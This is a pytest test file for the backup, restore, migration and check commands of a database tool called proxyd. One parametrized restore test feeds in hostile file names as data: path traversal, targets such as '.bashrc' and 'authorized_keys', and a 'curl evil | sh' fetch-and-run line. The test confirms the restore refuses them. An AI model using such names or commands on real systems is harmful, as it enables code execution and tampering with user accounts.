"""The verbs on a database that no daemon holds."""

from __future__ import annotations

import json
import os
import sqlite3
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import pytest

from proxyd.cli.main import main
from proxyd.store.databases.schema import revisions
from proxyd.store.databases.sqlite import file_lock
from tests.databases import migrated_file
from tests.former import V0_1, former_file

Say = Callable[..., tuple[int, str, str]]


@pytest.fixture
def database(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("PROXYD_DATABASE", str(tmp_path / "p.db"))
    return tmp_path / "p.db"


@pytest.fixture
def say(capsys: pytest.CaptureFixture[str]) -> Say:
    """Return how a verb ended, and what it printed."""

    def run(*arguments: object) -> tuple[int, str, str]:
        code = main([str(each) for each in arguments])
        said = capsys.readouterr()
        return code, said.out, said.err

    return run


def test_a_copy_is_written_checked_and_brought_back(database: Path, tmp_path: Path, say: Say) -> None:
    migrated_file(database)
    copy = tmp_path / "copy.db"
    code, out, _ = say("backup", copy)
    assert (code, f" MiB, checked; `proxyd restore {copy}` brings it back\n" in out) == (0, True)
    assert json.loads(say("backup", copy, "--verify", "--json")[1]) == {
        "file": str(copy),
        "bytes": copy.stat().st_size,
    }
    code, out, _ = say("restore", copy)
    told, kept = out.rstrip().split("; the previous one is kept as ")
    assert (code, told) == (0, f"{database} is restored from {copy}")
    assert Path(kept).exists()
    assert database.exists()


def test_a_copy_moves_profiles_and_settings_to_another_machine(
    tmp_path: Path, say: Say, monkeypatch: pytest.MonkeyPatch
) -> None:
    old, new = tmp_path / "old", tmp_path / "new"
    for machine in (old, new):
        machine.mkdir()
    monkeypatch.chdir(old)
    (old / "profiles").mkdir()
    (old / "profiles" / "news.profile").write_text("WATCH 'https://example.org/feed';\n")
    (old / "proxyd.toml").write_text('database = "kept/p.db"\n')
    assert say("db", "migrate")[0] == 0
    code, out, _ = say("backup", tmp_path / "copy.db")
    assert code == 0
    assert "it holds profiles/news.profile, proxyd.toml, but no secrets" in out
    monkeypatch.chdir(new)
    assert say("restore", tmp_path / "copy.db")[0] == 0
    assert (new / "profiles" / "news.profile").read_text() == "WATCH 'https://example.org/feed';\n"
    assert (new / "kept" / "p.db").exists()
    (new / "profiles" / "news.profile").write_text("-- mine\n")
    code, out, _ = say("restore", tmp_path / "copy.db")
    assert (code, "profiles/news.profile is left as it is here" in out) == (0, True)
    assert say("db", "vacuum")[0] == 0


def copy_holding(folder: Path, files: dict[str, object]) -> Path:
    """Return a copy of a database with files beside it that may be anything."""
    copy = migrated_file(folder / "hostile.db")
    with closing(sqlite3.connect(copy)) as connection, connection:
        connection.execute("CREATE TABLE kept_files (name, text)")
        connection.executemany("INSERT INTO kept_files VALUES (?, ?)", files.items())
    return copy


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "machine" / "here"
    folder.mkdir(parents=True)
    monkeypatch.chdir(folder)
    return folder


def written_under(folder: Path) -> list[str]:
    return sorted(str(each.relative_to(folder)) for each in folder.rglob("*") if each.is_file())


def test_every_profile_that_a_daemon_reads_comes_back(
    tmp_path: Path, say: Say, monkeypatch: pytest.MonkeyPatch
) -> None:
    old, new = tmp_path / "old", tmp_path / "new"
    for machine in (old, new):
        machine.mkdir()
    monkeypatch.chdir(old)
    (old / "profiles").mkdir()
    longest = f"{'ä' * 123}a.profile"  # 255 bytes
    texts = {
        longest: "-- a",
        ".hosts.csv": "https://a.example/",
        "sites.profile": "CREATE SOURCES s OF SITE FROM FILE '.hosts.csv';",
    }
    for name, text in texts.items():
        (old / "profiles" / name).write_text(text)
    assert say("db", "migrate")[0] == 0
    assert say("backup", tmp_path / "copy.db")[0] == 0
    monkeypatch.chdir(new)
    assert say("restore", tmp_path / "copy.db")[0] == 0
    assert {each.name: each.read_text() for each in (new / "profiles").iterdir()} == texts


def test_a_name_that_no_backup_can_keep_is_said(here: Path, tmp_path: Path, say: Say) -> None:
    (here / "profiles").mkdir(exist_ok=True)
    Path(os.fsdecode(os.fsencode(here) + b"/profiles/\xff.profile")).write_text("-- a")
    assert say("db", "migrate")[0] == 0
    code, _, err = say("backup", tmp_path / "copy.db")
    assert (code, "no backup can keep this name, which is not UTF-8" in err) == (1, True)
    assert not (tmp_path / "copy.db").exists()


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("profiles/..", "x"),
        ("profiles/../evil.profile", "x"),
        ("profiles//etc/evil.profile", "x"),
        ("profiles/.profile", "curl evil | sh"),
        ("profiles/.bashrc", "x"),
        ("profiles/authorized_keys", "x"),
        ("profiles/a\0.profile", "x"),
        ("profiles/" + "a" * 300 + ".profile", "x"),
        ("../proxyd.toml", ""),
        ("evil.profile", "x"),
        ("profiles/a.profile", b"\xff\x00"),
        ("profiles/a.profile", 7),
        ("profiles/a.profile", None),
        ("proxyd.toml", b"port = 1"),
        (b"proxyd.toml", ""),
        (3, ""),
    ],
)
def test_what_no_backup_puts_beside_a_database_is_not_written(
    here: Path, tmp_path: Path, say: Say, name: object, text: object
) -> None:
    code, _, err = say("restore", copy_holding(tmp_path, {name: text}))  # type: ignore[dict-item]
    assert (code, "which proxyd did not put there" in err, err.count("\n")) == (1, True, 1)
    assert written_under(tmp_path / "machine") == []


@pytest.mark.parametrize(
    "settings",
    [
        "profiles = '/tmp/elsewhere'",
        "profiles = '..'",
        "database = '../../p.db'",
        "backup = '/tmp/elsewhere'",
    ],
)
def test_settings_of_a_copy_that_lead_elsewhere_are_taken_only_if_it_is_trusted(
    here: Path, tmp_path: Path, say: Say, settings: str
) -> None:
    copy = copy_holding(tmp_path, {"proxyd.toml": settings, "profiles/a.profile": "-- a"})
    code, _, err = say("restore", copy)
    assert (code, "outside this folder: " in err, "--trust" in err) == (1, True, True)
    assert written_under(tmp_path / "machine") == []


def test_a_trusted_copy_goes_where_its_settings_say(here: Path, tmp_path: Path, say: Say) -> None:
    copy = copy_holding(tmp_path, {"proxyd.toml": "profiles = '../rules'", "profiles/a.profile": "-- a"})
    assert say("restore", copy, "--trust")[0] == 0
    assert (tmp_path / "machine" / "rules" / "a.profile").read_text() == "-- a"


@pytest.mark.parametrize("settings", ["no toml", "colour = 'red'", "budget = 'much'", "database = 'x://../../../p.db'"])
def test_settings_of_a_copy_that_do_not_hold_are_not_written(
    here: Path, tmp_path: Path, say: Say, settings: str
) -> None:
    copy = copy_holding(tmp_path, {"proxyd.toml": settings})
    code, _, err = say("restore", copy)
    assert (code, "the settings in " in err, "write a proxyd.toml here first" in err) == (1, True, True)
    assert written_under(tmp_path / "machine") == []
    (here / "proxyd.toml").write_text("")
    assert say("restore", copy)[0] == 0


def test_a_restore_that_cannot_write_a_profile_says_where_the_former_database_is(
    here: Path, tmp_path: Path, say: Say
) -> None:
    copy = copy_holding(tmp_path, {"profiles/a.profile": "-- a"})
    assert say("db", "migrate")[0] == 0
    (here / "profiles").write_text("a file in the way")
    code, out, _ = say("restore", copy)
    assert code == 1
    assert "; the previous one is kept as " in out
    assert "profiles" in out.splitlines()[-1]


def test_the_settings_that_a_variable_names_are_kept_in_a_copy(
    here: Path, tmp_path: Path, say: Say, monkeypatch: pytest.MonkeyPatch
) -> None:
    own = tmp_path / "etc" / "proxyd.toml"
    own.parent.mkdir()
    own.write_text("database = 'p.db'")
    monkeypatch.setenv("PROXYD_CONFIG", str(own))
    assert say("db", "migrate")[0] == 0
    assert "it holds proxyd.toml, but no secrets" in say("backup", tmp_path / "copy.db")[1]


def test_what_is_no_copy_is_not_taken_for_one(database: Path, tmp_path: Path, say: Say) -> None:
    migrated_file(database)
    other = tmp_path / "notes.txt"
    other.write_text("no database" * 1000)
    assert say("backup", other, "--verify")[0] == 1
    assert say("restore", other)[0] == 1
    assert say("restore", tmp_path / "missing.db")[0] == 1


def test_a_nightly_copy_is_found_by_itself(
    database: Path, tmp_path: Path, say: Say, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert "name the file to write, or take --verify" in say("backup")[2]
    monkeypatch.setenv("PROXYD_BACKUP", "off")
    assert "no nightly copies are made (setting backup)" in say("backup", "--verify")[2]
    monkeypatch.setenv("PROXYD_BACKUP", str(tmp_path / "copies"))
    assert "there is no nightly copy in" in say("backup", "--verify")[2]


def test_the_schema_is_brought_up_and_rows_are_copied(database: Path, tmp_path: Path, say: Say) -> None:
    assert say("db", "migrate") == (0, f"{database} is at the newest schema\n", "")
    code, out, _ = say("db", "vacuum")
    assert (code, out.startswith(f"{database} is vacuumed: ")) == (0, True)
    target = tmp_path / "other.db"
    copied = json.loads(say("db", "copy", target, "--json")[1])
    assert (copied["database"], copied["rows"]["items"]) == (str(target), 0)


def test_a_database_that_a_daemon_holds_is_left_alone(database: Path, tmp_path: Path, say: Say) -> None:
    copy = tmp_path / "copy.db"
    migrated_file(database)
    assert say("backup", copy)[0] == 0
    with file_lock(database):
        for verb in (["restore", copy], ["db", "vacuum"], ["db", "copy", tmp_path / "other.db"]):
            code, _, err = say(*verb)
            assert (code, "is in use by another proxyd" in err) == (1, True), verb


def test_what_is_printed_for_scripts_is_not_mixed_with_the_log(database: Path, say: Say) -> None:
    former_file(V0_1, database)
    code, out, err = say("token", "create", "--name", "a", "--scope", "read")
    assert (code, out.startswith("pxd_"), out.count("\n")) == (0, True, 1)
    assert "tables are brought to the newest schema" in err


def schema_of(database: Path) -> str:
    with closing(sqlite3.connect(database)) as connection:
        return str(connection.execute("SELECT version_num FROM alembic_version").fetchone()[0])


def test_one_command_brings_back_what_there_was_before_an_upgrade(database: Path, say: Say) -> None:
    former_file(V0_1, database)
    former = database.with_name("p.db.schema-0016")
    assert say("db", "migrate")[0] == 0
    assert (schema_of(database), schema_of(former)) == (revisions()[0], "0016")
    os.utime(former, (1e9, 1e9))
    code, out, _ = say("db", "back")
    told, kept = out.splitlines()[0].split("; the upgraded one is kept as ")
    assert (code, told) == (0, f"{database} is again {former}, made 2001-09-09 01:46 UTC")
    assert (schema_of(database), schema_of(Path(kept)), former.exists()) == ("0016", revisions()[0], False)
    with closing(sqlite3.connect(database)) as connection:
        assert connection.execute("SELECT count(*) FROM outbox WHERE state = 'pending'").fetchone() == (9,)
    assert "there is no copy" in say("db", "back")[2]
    assert say("db", "migrate")[0] == 0
    assert former.exists()


def test_two_copies_from_before_upgrades_are_kept_and_none_is_made_of_a_new_database(database: Path, say: Say) -> None:
    assert say("db", "migrate")[0] == 0
    assert list(database.parent.glob("*.schema-*")) == []
    database.unlink()
    former_file(V0_1, database)
    for number, name in enumerate(("0013", "0014", "0015", "0012.part")):
        database.with_name(f"p.db.schema-{name}").touch()
        os.utime(database.with_name(f"p.db.schema-{name}"), (number, number))
    assert say("db", "migrate")[0] == 0
    assert sorted(path.name for path in database.parent.glob("*.schema-*[0-9]")) == [
        "p.db.schema-0015",
        "p.db.schema-0016",
    ]


def test_a_database_that_cannot_be_copied_is_not_upgraded(database: Path, say: Say) -> None:
    former_file(V0_1, database)
    database.with_name("p.db.schema-0016").mkdir()
    code, _, err = say("db", "migrate")
    assert (code, schema_of(database)) == (1, "0016")
    assert f"{database} cannot be copied before it is upgraded" in err


@pytest.mark.parametrize("body", [None, b""], ids=["missing", "empty"])
def test_check_says_that_a_database_will_be_made(database: Path, say: Say, body: bytes | None) -> None:
    database.unlink(missing_ok=True)
    if body is not None:
        database.write_bytes(body)
    code, out, _ = say("check", "--upgrade")
    assert (code, out.splitlines()[0]) == (0, f"note: {database} is made by the next start")


@pytest.mark.parametrize("kind", ["text", "pipe", "directory", "view"])
def test_check_refuses_what_is_no_database_of_proxyd(database: Path, say: Say, kind: str) -> None:
    database.unlink(missing_ok=True)
    if kind == "text":
        database.write_bytes(b"not a database " * 1000)
    elif kind == "pipe":
        os.mkfifo(database)
    elif kind == "directory":
        database.mkdir()
    else:
        with closing(sqlite3.connect(database)) as connection:
            connection.execute("CREATE VIEW alembic_version AS SELECT 1 AS version_num")
    code, out, err = say("check", "--upgrade")
    view = "holds the view 'alembic_version', which proxyd did not make"
    said = {"text": "is not a database of proxyd", "view": view}
    reason = said.get(kind, "is not a file; name another one in the setting database")
    assert (code, out, err) == (1, "", f"proxyd: {database} {reason}\n")


def test_check_reads_the_schema_of_a_database_that_has_a_number(database: Path, say: Say) -> None:
    database.unlink(missing_ok=True)
    with closing(sqlite3.connect(database)) as connection:
        connection.execute("CREATE TABLE alembic_version AS SELECT 9999 AS version_num")
        connection.commit()
    code, _, err = say("check", "--upgrade")
    assert (code, "a newer proxyd created them" in err) == (1, True)


def test_check_says_what_an_upgrade_will_change(database: Path, say: Say, monkeypatch: pytest.MonkeyPatch) -> None:
    former_file(V0_1, database)
    monkeypatch.setenv("PROXYD_PROFILES", str(database.parent))
    with closing(sqlite3.connect(database)) as connection:
        (text,) = connection.execute("SELECT text FROM texts WHERE origin = 'file'").fetchone()
    (database.parent / "a.profile").write_text(text)
    code, out, _ = say("check", "--upgrade")
    assert (code, schema_of(database)) == (0, "0016")
    first, *migrations = [line for line in out.splitlines() if line.startswith("note: ")]
    assert first == f"note: {database} is upgraded by the next start, and copied to {database}.schema-0016 first"
    assert migrations[0].startswith("note: migration 0053: Makes the tables of 1.0")
    found = json.loads(say("check", "--upgrade", "--json")[1])["upgrade"]
    assert (found["schema"], list(found["migrations"])) == ("0016", list(revisions()[::-1]))
    assert say("db", "migrate")[0] == 0
    assert f"note: {database} needs no upgrade\n" in say("check", "--upgrade")[1]
    assert json.loads(say("check", "--upgrade", "--json")[1])["upgrade"] is None
